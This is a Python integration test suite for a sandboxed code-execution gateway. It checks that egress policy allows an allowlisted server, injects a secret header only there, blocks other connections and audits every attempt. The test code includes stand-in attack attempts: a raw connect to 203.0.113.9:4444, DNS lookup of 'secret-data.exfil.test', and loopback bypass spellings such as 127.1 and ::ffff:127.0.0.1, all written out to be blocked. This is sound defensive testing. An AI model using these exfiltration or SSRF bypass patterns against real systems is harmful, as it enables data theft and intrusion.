"""Egress through the whole gateway: policy obligation -> proxy -> result and audit.

A tenant allowed one local server (policy data) with a provisioned secret
(`[egress.secrets]`) runs code that reaches it, tries another, connects
directly and resolves a name: the response lists each attempt, the audit log
has a `network.attempt` per attempt and a `sandbox.event` for what the
sandbox stopped, and the secret appears nowhere but at the allowed server.
"""

from __future__ import annotations

import json
import secrets
import shutil
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from pydantic import ValidationError

from gateway.app import create_app
from gateway.auth.keys import load_or_create_dev_secret
from gateway.auth.tokens import mint_token
from gateway.settings.model import EgressSecretSettings, EgressSettings, Settings
from tests.gateway.conftest import REPO, audit_records, auth, make_settings, require_root

pytestmark = pytest.mark.integration  # drives a real nsjail


@pytest.fixture
async def local_server() -> AsyncIterator[tuple[int, list[dict[str, str]]]]:
    seen: list[dict[str, str]] = []

    async def hello(request: web.Request) -> web.Response:
        seen.append(dict(request.headers))
        return web.Response(text="outside")

    app = web.Application()
    app.router.add_get("/{tail:.*}", hello)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    try:
        yield runner.addresses[0][1], seen
    finally:
        await runner.cleanup()


CODE = """
import socket, urllib.request
print(urllib.request.urlopen('http://127.0.0.1:{port}/ok', timeout=10).read().decode())
try:
    urllib.request.urlopen('http://127.0.0.1:9/no', timeout=10)
except Exception as e:
    print('refused')
s = socket.socket()
print(s.connect_ex(('203.0.113.9', 4444)) != 0)
try:
    socket.getaddrinfo('secret-data.exfil.test', 80)
except socket.gaierror:
    print('unresolved')
"""


def settings_allowing(tmp_path: Path, destinations: list[str]) -> Settings:
    """Settings whose policy data allows tenant acme these destinations too."""
    policies = tmp_path / "policies"
    shutil.copytree(REPO / "policies", policies)
    tenants = json.loads((policies / "tenants/data.json").read_text())
    tenants["acme"]["egress_allowlist"] += destinations
    (policies / "tenants/data.json").write_text(json.dumps(tenants))
    return make_settings(tmp_path, EXECGATE_POLICY_PATH=str(policies))


def egress_token(settings: Settings) -> str:
    key = load_or_create_dev_secret(Path(settings.auth.hs256_secret_file))
    return mint_token(
        key, tenant="acme", sub="agent", scopes=["exec:python", "net:egress"], ttl_s=600
    )


async def test_egress_result_and_audit(
    aiohttp_client: Any, tmp_path: Path, local_server: tuple[int, list[dict[str, str]]]
) -> None:
    require_root()
    port, seen = local_server
    destination = f"127.0.0.1:{port}"
    secret = "s3cret-" + secrets.token_hex(12)
    (tmp_path / "api.secret").write_text(secret + "\n")
    settings = settings_allowing(tmp_path, [destination])
    egress = EgressSettings(
        secrets={
            "acme": {
                "api": EgressSecretSettings(
                    destination=destination,
                    header="X-Api-Key",
                    value_file=str(tmp_path / "api.secret"),
                )
            }
        }
    )
    settings = settings.model_copy(update={"egress": egress})
    client = await aiohttp_client(create_app(settings))
    token = egress_token(settings)
    body = {
        "language": "python",
        "code": CODE.format(port=port),
        "network": {"egress": [destination]},
        "backend": "nsjail",
    }
    resp = await client.post("/v1/executions", json=body, headers=auth(token))
    result = await resp.json()
    assert resp.status == 200, result
    assert result["stdout"].split() == ["outside", "refused", "True", "unresolved"]
    network = {(a["kind"], a["host"], a["port"], a["verdict"]) for a in result["network"]}
    assert ("http", "127.0.0.1", port, "allowed") in network
    assert ("http", "127.0.0.1", 9, "blocked") in network
    assert ("tcp", "203.0.113.9", 4444, "blocked") in network
    assert ("dns", "secret-data.exfil.test", 53, "blocked") in network
    assert seen[0]["X-Api-Key"] == secret

    records = audit_records(settings)
    attempts = [r for r in records if r["type"] == "network.attempt"]
    assert len(attempts) == len(result["network"])
    assert all(r["execution_id"] == result["execution_id"] for r in attempts)
    assert {(r["kind"], r["host"], r["port"]) for r in attempts} == {n[:3] for n in network}
    assert secret not in Path(settings.audit.path).read_text()
    assert secret not in json.dumps(result)


async def test_sandbox_events_are_audited(aiohttp_client: Any, tmp_path: Path) -> None:
    require_root()
    settings = make_settings(tmp_path)
    client = await aiohttp_client(create_app(settings))
    key = load_or_create_dev_secret(Path(settings.auth.hs256_secret_file))
    token = mint_token(key, tenant="acme", sub="agent", scopes=["exec:python"], ttl_s=600)
    body = {"language": "python", "code": "while True: pass", "limits": {"timeout_s": 1}}
    resp = await client.post("/v1/executions", json=body, headers=auth(token))
    result = await resp.json()
    assert result["status"] == "timeout" and result["events"], result
    events = [r for r in audit_records(settings) if r["type"] == "sandbox.event"]
    assert [e["kind"] for e in events] == [e["kind"] for e in result["events"]]
    assert all(e["execution_id"] == result["execution_id"] for e in events)


NAMES_CODE = """
import urllib.request, urllib.error
urls = ('http://localhost:{port}/readyz', 'http://127.1:{port}/',
        'http://[::ffff:127.0.0.1]:{port}/')
for url in urls:
    try:
        urllib.request.urlopen(url, timeout=10)
        print('reached')
    except urllib.error.HTTPError as e:
        print(e.code)
"""


async def test_a_name_on_the_allowlist_never_reaches_the_gateway_host(
    aiohttp_client: Any, tmp_path: Path, local_server: tuple[int, list[dict[str, str]]]
) -> None:
    # `localhost:PORT` allowlisted for the tenant and asked for: the proxy refuses
    # it (a name leading to loopback), as it refuses loopback in other spellings;
    # the audit log says why.
    require_root()
    port, seen = local_server
    wanted = [f"localhost:{port}"]
    settings = settings_allowing(tmp_path, wanted)
    client = await aiohttp_client(create_app(settings))
    token = egress_token(settings)
    body = {
        "language": "python",
        "code": NAMES_CODE.format(port=port),
        "network": {"egress": wanted},
        "backend": "nsjail",
    }
    resp = await client.post("/v1/executions", json=body, headers=auth(token))
    result = await resp.json()
    assert resp.status == 200, result
    assert result["stdout"].split() == ["403", "403", "403"]
    assert seen == []
    refused = {(a["host"], a["verdict"], a["rule"]) for a in result["network"]}
    assert refused == {
        ("localhost", "blocked", "internal_address"),
        ("127.1", "blocked", "noncanonical_address"),
        ("::ffff:7f00:1", "blocked", "default-deny"),
    }
    records = [r for r in audit_records(settings) if r["type"] == "network.attempt"]
    assert {(r["host"], r["verdict"], r["rule"]) for r in records} == refused


def test_internal_ranges_are_cidr() -> None:
    assert EgressSettings(internal_allow=["10.20.0.0/16", "fd00::/8"]).internal_allow
    for bad in (["10.20.0.1/16"], ["10.20.0.0/33"], ["localhost"], ["*"]):
        with pytest.raises(ValidationError, match="internal_allow"):
            EgressSettings(internal_allow=bad)
